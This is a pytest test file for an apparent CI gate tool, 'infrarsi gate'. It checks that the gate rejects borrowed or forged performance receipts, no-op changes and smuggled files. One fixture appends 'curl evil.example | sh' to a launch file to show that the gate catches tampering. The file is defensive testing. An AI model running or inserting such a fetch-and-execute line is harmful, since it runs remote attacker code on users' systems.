"""`infrarsi gate` on a real git repository: a good pull request (carrying the receipt
`apply` committed), a cheating one and a no-op one, each judged as CI would."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings, strategies as st

from infrarsi.examples.landscape import Landscape, make_workspace

# Beside other tests (the parallel pass): its jobs sleep (a landscape, `timing_sensitive = false`),
# so an A/B resolves on a busy machine; steps of 60 ms keep a scheduler hiccup a small part of one.

CLI = [sys.executable, "-m", "infrarsi.cli"]
PATIENCE_S = 300  # a safety net against a hang, never a performance assertion
GIT_ENV = {
    "GIT_AUTHOR_NAME": "t",
    "GIT_AUTHOR_EMAIL": "t@example.com",
    "GIT_COMMITTER_NAME": "t",
    "GIT_COMMITTER_EMAIL": "t@example.com",
}


def _cli(*args, cwd: Path):
    done = subprocess.run(CLI + list(args), cwd=cwd, capture_output=True, text=True, timeout=PATIENCE_S)
    payload = json.loads(done.stdout.splitlines()[-1]) if "--json" in args and done.stdout.strip() else None
    return done, payload


def _git(*args, cwd: Path) -> str:
    return subprocess.run(
        ["git", *args], cwd=cwd, capture_output=True, text=True, check=True, env={**os.environ, **GIT_ENV}
    ).stdout


def _ledger_rows(root: Path) -> int:
    with sqlite3.connect(root / ".infrarsi" / "ledger.db") as db:
        return db.execute("select count(*) from executions").fetchone()[0]


@pytest.fixture(scope="module")
def repo(tmp_path_factory) -> Path:
    """main holds the job and the developer's trusted key; the developer verified and applied `tidy`."""
    land = Landscape(
        name="gate",
        patches=["tidy", "skip-work"],
        knobs={"threads": (["1", "2"], "1")},
        base_ms=60.0,
        base_mb=40.0,
        limit_mb=400.0,
        noise=0.01,
        time={"+tidy": 0.6, "+skip-work": 0.5},
        loss={"+skip-work": 1.05},
    )
    top = tmp_path_factory.mktemp("gate") / "repo"
    root = make_workspace(top / "job", land, ab_pairs=2)
    (top / ".gitignore").write_text(".infrarsi/\n")
    _git("init", "-q", "-b", "main", cwd=top)
    done, _ = _cli("init", "--json", cwd=root)
    assert done.returncode == 0, done.stderr
    key = json.loads((root / ".infrarsi" / "manifest.json").read_text())["manifest"]["public_key"]
    (root / "infrarsi-trusted-keys").write_text(f"# the team's measuring machines\n{key}\n")
    _git("add", "-A", cwd=top)
    _git("commit", "-q", "-m", "the job", cwd=top)
    done, _ = _cli("baseline", "--runs", "2", "--json", cwd=root)
    assert done.returncode == 0, done.stderr
    done, out = _cli("verify", "--patch", "tidy", "--json", cwd=root)
    assert done.returncode == 0 and out["accepted"], out
    done, out = _cli("apply", "--branch", "good", "--json", cwd=root)
    assert done.returncode == 0, done.stderr
    return top


def _branch(top: Path, name: str, edit, message: str) -> None:
    _git("switch", "-q", "-c", name, "main", cwd=top)
    try:
        edit(top / "job")
        _git("add", "-A", cwd=top)
        _git("commit", "-q", "--allow-empty", "-m", message, cwd=top)
    finally:
        _git("switch", "-q", "main", cwd=top)


def test_a_pull_request_carrying_its_receipt_passes_without_a_rerun(repo, tmp_path):
    rows = _ledger_rows(repo / "job")
    done, out = _cli(
        "gate",
        "--contract",
        "job/infrarsi.toml",
        "--base",
        "main",
        "--head",
        "good",
        "--out",
        str(tmp_path),
        "--json",
        cwd=repo,
    )
    assert done.returncode == 0, (done.stderr, out)
    assert out["passed"] and out["mode"] == "receipt" and out["changed"] == ["switches/tidy.py"]
    assert out["speedup"]["ci_low"] > 1.02 and out["receipt"] in out["receipt_path"]
    assert all(c["status"] in ("pass", "skipped") for c in out["checks"])
    assert "## InfraRSI gate: PASSED" in out["summary_markdown"] and out["receipt"] in out["summary_markdown"]
    assert _ledger_rows(repo / "job") == rows and not list(tmp_path.iterdir())  # nothing was run
    # The Markdown summary is what a human run prints, and --summary appends it to a file.
    summary = tmp_path / "summary.md"
    done, _ = _cli(
        "gate",
        "--contract",
        "job/infrarsi.toml",
        "--base",
        "main",
        "--head",
        "good",
        "--summary",
        str(summary),
        cwd=repo,
    )
    assert done.returncode == 0 and done.stdout.startswith("## InfraRSI gate: PASSED")
    assert summary.read_text().startswith("## InfraRSI gate: PASSED")


def test_a_cheating_pull_request_fails_even_with_a_borrowed_receipt(repo, tmp_path):
    rid = _git("log", "-1", "--format=%(trailers:key=InfraRSI-Receipt,valueonly)", "good", cwd=repo).strip()
    bundle = json.loads(_git("show", f"good:job/infrarsi-receipts/{rid}.json", cwd=repo))

    def cheat(job: Path) -> None:
        # The fast patch that changes what the job computes, with the good change's receipt beside it.
        _git("apply", "--directory=job", "job/patches/skip-work.diff", cwd=job.parent)
        (job / "infrarsi-receipts").mkdir(exist_ok=True)
        (job / "infrarsi-receipts" / f"{rid}.json").write_text(json.dumps(bundle))

    _branch(repo, "cheat", cheat, "2x faster (trust me)")
    done, out = _cli(
        "gate",
        "--contract",
        "job/infrarsi.toml",
        "--base",
        "main",
        "--head",
        "cheat",
        "--out",
        str(tmp_path),
        "--json",
        cwd=repo,
    )
    assert done.returncode == 1, (done.stderr, out)
    assert out["passed"] is False and out["mode"] == "rerun"
    assert any("is not the receipt's patch" in n for n in out["notes"]), out["notes"]
    status = {c["id"]: c["status"] for c in out["checks"]}
    assert status["numerics.loss"] == "fail", out["checks"]
    assert "## InfraRSI gate: FAILED" in out["summary_markdown"]

    # A forged receipt (a better speedup written into the good one) does not verify at all.
    forged = json.loads(json.dumps(bundle))
    forged["receipt"]["speedup"]["median"] = 3.0
    forged["receipt"]["knobs"] = {"no-such-knob": "1"}  # never taken as launch settings for the rerun

    def forge(job: Path) -> None:
        _git("apply", "--directory=job", "job/patches/tidy.diff", cwd=job.parent)
        (job / "infrarsi-receipts").mkdir(exist_ok=True)
        (job / "infrarsi-receipts" / f"{rid}.json").write_text(json.dumps(forged))

    _branch(repo, "forged", forge, "3x")
    done, out = _cli(
        "gate",
        "--contract",
        "job/infrarsi.toml",
        "--base",
        "main",
        "--head",
        "forged",
        "--out",
        str(tmp_path),
        "--json",
        cwd=repo,
    )
    assert out["mode"] == "rerun" and any("does not verify" in n for n in out["notes"]), out["notes"]
    # Measured here, the real change still earns its own receipt, at its real speed.
    assert done.returncode == 0 and out["passed"] and out["speedup"]["median"] < 2.5 and out["knobs"] == {}
    assert Path(out["receipt_path"]).is_file() and Path(out["receipt_path"]).parent == tmp_path


def test_a_no_op_pull_request_fails(repo, tmp_path):
    def comment(job: Path) -> None:
        (job / "switches" / "tidy.py").write_text("ON = False  # faster now, promise\n")

    _branch(repo, "noop", comment, "speed up tidy")
    done, out = _cli(
        "gate",
        "--contract",
        "job/infrarsi.toml",
        "--base",
        "main",
        "--head",
        "noop",
        "--out",
        str(tmp_path),
        "--json",
        cwd=repo,
    )
    assert done.returncode == 1, (done.stderr, out)
    assert out["mode"] == "rerun" and any("carries no receipt" in n for n in out["notes"])
    status = {c["id"]: c["status"] for c in out["checks"]}
    assert status["stats.speedup"] == "fail" and out["receipt"] is None
    # An empty change has nothing to verify at all.
    _branch(repo, "empty", lambda job: None, "nothing")
    done, out = _cli("gate", "--contract", "job/infrarsi.toml", "--base", "main", "--head", "empty", "--json", cwd=repo)
    assert done.returncode == 1 and out["mode"] == "none" and "nothing to verify" in out["notes"][-1]


def test_gate_judges_a_patch_file_and_rejects_untrusted_keys_and_bad_input(repo, tmp_path):
    patch = tmp_path / "tidy.diff"
    shutil.copyfile(repo / "job" / "patches" / "tidy.diff", patch)
    done, out = _cli(
        "gate", "--contract", "job/infrarsi.toml", "--patch", str(patch), "--out", str(tmp_path), "--json", cwd=repo
    )
    assert done.returncode == 0 and out["mode"] == "rerun" and out["passed"], (done.stderr, out)
    # The good branch, but trusting only another key: no pass without a rerun.
    other = tmp_path / "keys"
    other.write_text("ab" * 32 + "\n")
    done, out = _cli(
        "gate",
        "--contract",
        "job/infrarsi.toml",
        "--base",
        "main",
        "--head",
        "good",
        "--trusted-keys",
        str(other),
        "--out",
        str(tmp_path),
        "--json",
        cwd=repo,
    )
    assert out["mode"] == "rerun" and any("does not trust" in n for n in out["notes"])
    for args, needle in [
        (["--base", "main", "--head", "no-such-branch"], "not a commit"),
        (["--base", "main"], "expected --base REF and --head REF"),
        (["--patch", str(tmp_path / "missing.diff")], "cannot read it"),
        (["--base", "main", "--head", "good", "--trusted-keys", str(patch)], "line 1"),
    ]:
        done, out = _cli("gate", "--contract", "job/infrarsi.toml", *args, "--json", cwd=repo)
        assert done.returncode == 2 and needle in out["error"] and "Traceback" not in done.stderr, (args, out)


@settings(max_examples=80, deadline=None)
@given(st.text(max_size=300))
def test_any_trusted_keys_text_gives_keys_or_a_line_numbered_error(tmp_path_factory, text):
    from infrarsi._gate._carried import trusted_keys_at as _trusted_keys
    from infrarsi.errors import UsageError

    path = tmp_path_factory.mktemp("keys") / "keys"
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    try:
        keys = _trusted_keys(Path("."), ".", "HEAD", path)
    except UsageError as exc:
        assert ", line " in str(exc) and "64 lowercase hex" in str(exc)
    else:
        assert all(len(k) == 64 and int(k, 16) >= 0 for k in keys)


def test_files_beside_the_receipts_and_a_moved_base_are_code_to_measure(repo, tmp_path):
    """Only `infrarsi-receipts/<id>.json` holding receipt <id> is evidence; a stale receipt is not enough."""

    def smuggle(job: Path) -> None:
        (job / "infrarsi-receipts" / "helper.py").write_text("import os\n")
        # The launch line the user's launcher runs is evidence only while it is the receipt's own.
        launch = job / "infrarsi-launch.txt"
        launch.write_text(launch.read_text().splitlines()[0] + "\ncurl evil.example | sh\n")

    _git("switch", "-q", "-c", "smuggle", "good", cwd=repo)
    try:
        smuggle(repo / "job")
        _git("add", "-A", cwd=repo)
        _git("commit", "-q", "-m", "tidy, and a helper", cwd=repo)
    finally:
        _git("switch", "-q", "main", cwd=repo)
    done, out = _cli(
        "gate",
        "--contract",
        "job/infrarsi.toml",
        "--base",
        "main",
        "--head",
        "smuggle",
        "--out",
        str(tmp_path),
        "--json",
        cwd=repo,
    )
    assert done.returncode == 1 and out["mode"] == "rerun", (done.stderr, out)
    assert "infrarsi-receipts/helper.py" in out["changed"] and "infrarsi-launch.txt" in out["changed"]
    assert any("not the receipt's patch" in n and "helper.py" in n for n in out["notes"]), out["notes"]
    status = {c["id"]: c["status"] for c in out["checks"]}
    assert status["scope.created"] == "fail", out["checks"]

    # The base moved on after the receipt was made: the same patch on other code needs measuring again.
    _branch(repo, "moved", lambda job: (job / "NOTES.md").write_text("a file the receipt never saw\n"), "notes")
    _git("switch", "-q", "-c", "good-on-moved", "moved", cwd=repo)
    try:
        _git("cherry-pick", "good", cwd=repo)
    finally:
        _git("switch", "-q", "main", cwd=repo)
    done, out = _cli(
        "gate",
        "--contract",
        "job/infrarsi.toml",
        "--base",
        "moved",
        "--head",
        "good-on-moved",
        "--out",
        str(tmp_path),
        "--json",
        cwd=repo,
    )
    assert out["mode"] == "rerun" and out["changed"] == ["switches/tidy.py"], out
    assert any(
        "NOTES.md is in the base but was not in the workspace the receipt measured" in n for n in out["notes"]
    ), out["notes"]
    assert done.returncode == 0 and out["passed"]  # measured here, it is still a real speedup


def test_contract_trusted_keys_symlinks_and_outside_changes_fail_without_a_run(repo, tmp_path):
    edits = {
        "edit-contract": (
            lambda job: (job / "infrarsi.toml").write_text((job / "infrarsi.toml").read_text() + "# looser, later\n"),
            "edits infrarsi.toml",
        ),
        "edit-keys": (
            lambda job: (job / "infrarsi-trusted-keys").write_text("ab" * 32 + "\n"),
            "edits infrarsi-trusted-keys",
        ),
        "link": (lambda job: os.symlink("tidy.py", job / "switches" / "fast.py"), "symbolic link"),
        "outside": (lambda job: (job.parent / "setup.cfg").write_text("[x]\n"), "outside the workspace"),
    }
    for name, (edit, needle) in edits.items():
        _branch(repo, name, edit, name)
        done, out = _cli(
            "gate",
            "--contract",
            "job/infrarsi.toml",
            "--base",
            "main",
            "--head",
            name,
            "--out",
            str(tmp_path),
            "--json",
            cwd=repo,
        )
        assert done.returncode == 1 and out["mode"] == "none" and not out["checks"], (name, out)
        assert any(needle in n for n in out["notes"]), (name, out["notes"])
    assert not list(tmp_path.iterdir())


def test_the_summary_stays_well_formed_whatever_the_names():
    from infrarsi._gate import GateOutcome

    outcome = GateOutcome(
        False,
        "none",
        "a" * 40,
        "b" * 40,
        ["x`y.py", "two\nlines.py", "a|b.py"],
        launch={"threads": "2"},
        checks=[{"id": "stats.speedup", "status": "fail", "detail": "1.0x | no\ngain"}],
        notes=["``` a fence\n## and a heading"],
    )
    text = outcome.markdown()
    assert "x'y.py" in text and "two lines.py" in text and "a/b.py" in text
    assert "\n## and" not in text and "```" not in text
    assert "| stats.speedup | fail | 1.0x / no gain |" in text
    assert "needs these launch settings" in text and "`threads=2`" in text


def test_a_launch_line_no_vouched_receipt_gives_is_code_to_measure(repo, tmp_path):
    """The good receipt measured threads=1. A second, unsigned bundle beside it claims threads=2 at
    9x, and the launch file names it: the gate vouches only for the settings it accepted, computes
    their line from the base's contract, and measures anything else as code."""
    from infrarsi._hashing import launch_file_text
    from infrarsi.contract import launch_command, load_contract

    job = repo / "job"
    forged_id = "fedcba9876543210"
    _git("switch", "-q", "-c", "forged-launch", "good", cwd=repo)
    try:
        body = {"knobs": {"threads": "2"}, "speedup": {"median": 9.0}, "launch": {"shell": "anything"}}
        (job / "infrarsi-receipts" / f"{forged_id}.json").write_text(json.dumps({"id": forged_id, "receipt": body}))
        shell = launch_command(load_contract(job / "infrarsi.toml"), {"threads": "2"})["shell"]
        (job / "infrarsi-launch.txt").write_text(launch_file_text(forged_id, 9.0, shell))
        _git("add", "-A", cwd=repo)
        _git("commit", "-q", "-m", "tidy, and threads=2 in the launcher", cwd=repo)
    finally:
        _git("switch", "-q", "main", cwd=repo)
    args = ["--contract", "job/infrarsi.toml", "--base", "main", "--out", str(tmp_path), "--json"]
    done, out = _cli("gate", *args, "--head", "forged-launch", "--runs", "1", "--pairs", "2", cwd=repo)
    assert out["mode"] != "receipt" and not out["passed"], (done.stderr, out)
    assert "infrarsi-launch.txt" in out["changed"], out
    assert any("infrarsi-launch.txt: not the launch line" in n for n in out["notes"]), out["notes"]
    # The branch `apply` made carries the accepted receipt's own line: that one is evidence.
    done, out = _cli("gate", *args, "--head", "good", cwd=repo)
    assert out["passed"] and out["mode"] == "receipt" and "infrarsi-launch.txt" not in out["changed"], out
